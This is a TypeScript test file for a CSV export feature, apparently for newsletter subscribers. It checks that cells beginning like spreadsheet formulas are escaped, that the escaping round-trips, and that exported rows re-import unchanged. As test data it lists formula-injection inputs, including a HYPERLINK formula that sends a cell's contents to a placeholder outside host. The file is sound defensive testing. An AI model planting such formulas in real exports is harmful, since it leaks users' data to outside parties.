import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import t from 'tap';
import { readRows } from '../../../server/cli/readers/import.ts';
import { cellOf, csvOptions, textOfCell } from '../../../server/lib/csv.ts';
import { writable } from '../../../server/lib/writable-text.ts';
import { subscriptionColumns } from '../../../server/readers/newsletters/subscribers/export.ts';

/** What spreadsheets run, or take for the beginning of what they run. */
const formulas = [
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '=HYPERLINK("https://x.example?"&A1,"Ada")',
  '\u000b=1',
];

t.test('no cell begins as a formula', async (t) => {
  for (const text of formulas) t.match(cellOf(text), /^'/, JSON.stringify(text));
  for (const text of ['Ada', "O'Hara", "'quoted'", '1+1', 'ada@example.com', ''])
    t.equal(cellOf(text), text, 'others are as they were');
});

t.test('a text that begins with apostrophes is told from one that was written with one more', async (t) => {
  for (const text of [...formulas.slice(0, -1), "'=1", "''=1", "'Ada", "'", "'-"])
    t.equal(textOfCell(cellOf(text)), text, JSON.stringify(text));
});

const text = fc
  .array(fc.oneof(fc.constantFrom("'", '=', '+', '-', '@', '\t', ',', '"', ';', '＝'), fc.string()), {
    maxLength: 6,
  })
  .map((parts) => writable(parts.join('')));

t.test('what is exported is imported as it was, whatever the fields are', async (t) => {
  const row = fc.record(Object.fromEntries(subscriptionColumns.map((column) => [column, text])));
  fc.assert(
    fc.property(fc.array(row, { minLength: 1, maxLength: 4 }), (rows) => {
      // What is exported is trimmed when it is stored; a row of empty cells is no subscription.
      const stored = rows.map((each) =>
        Object.fromEntries(
          Object.entries(each).map(([name, value]) => [name, `x${value.trim()}`.slice(1).trim()]),
        ),
      );
      const some = stored.filter((each) => Object.values(each).some((value) => value !== ''));
      const file = stringify(some, { header: true, columns: [...subscriptionColumns], ...csvOptions });
      const read = some.length === 0 ? [] : readRows(file).rows.map(({ line: _, ...each }) => each);
      t.strictSame(
        read,
        some.map((each) => ({ ...each })),
      );
    }),
    { numRuns: 200, seed: 20_261_127 },
  );
});
